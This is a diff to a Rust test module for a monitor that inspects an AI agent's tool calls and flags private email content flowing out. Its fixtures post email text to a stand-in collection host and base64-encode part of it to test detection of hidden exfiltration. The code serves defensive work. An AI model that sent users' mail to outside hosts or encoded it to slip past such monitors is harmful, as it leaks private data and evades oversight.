@@ -128,17 +128,24 @@ mod tests {
                 now: Millis(2),
             };
             let found = inspector.call(&mut memory, &call);
-            found.iter().any(|finding| finding.detector == "flow/private" && finding.confidence == Confidence::Possible)
+            let of = |detector: &str| found.iter().find(|f| f.detector == detector).map(|f| f.confidence);
+            if of("flow/encoded") == Some(Confidence::Likely) {
+                return None;
+            }
+            Some(of("flow/private") == Some(Confidence::Possible))
         };
         let post = |body: &str| {
             serde_json::json!({"url": "https://collect.example/v1", "body": format!("x {body} y")}).to_string()
         };
-        assert!(found(("gmail", "read_email"), ("http_request", post(text))));
-        assert!(!found(("gmail", "read_email"), ("http_request", post(&text[..80]))));
-        assert!(!found(("files", "read_file"), ("http_request", post(text))));
+        assert_eq!(found(("gmail", "read_email"), ("http_request", post(text))), Some(true));
+        assert_eq!(found(("gmail", "read_email"), ("http_request", post(&text[..80]))), Some(false));
+        assert_eq!(found(("files", "read_file"), ("http_request", post(text))), Some(false));
+        // A copy as it stands does not silence one that is hidden.
+        let both = format!("{text} {}", data_encoding::BASE64.encode(&text.as_bytes()[..150]));
+        assert_eq!(found(("gmail", "read_email"), ("http_request", post(&both))), None);
         let event = serde_json::json!({"title": "Lunch", "description": text}).to_string();
-        assert!(!found(("gmail", "read_email"), ("create_event", event)));
+        assert_eq!(found(("gmail", "read_email"), ("create_event", event)), Some(false));
         let mail = serde_json::json!({"to": "ana@mail.example", "body": text}).to_string();
-        assert!(!found(("gmail", "read_email"), ("send_email", mail)));
+        assert_eq!(found(("gmail", "read_email"), ("send_email", mail)), Some(false));
     }
 }
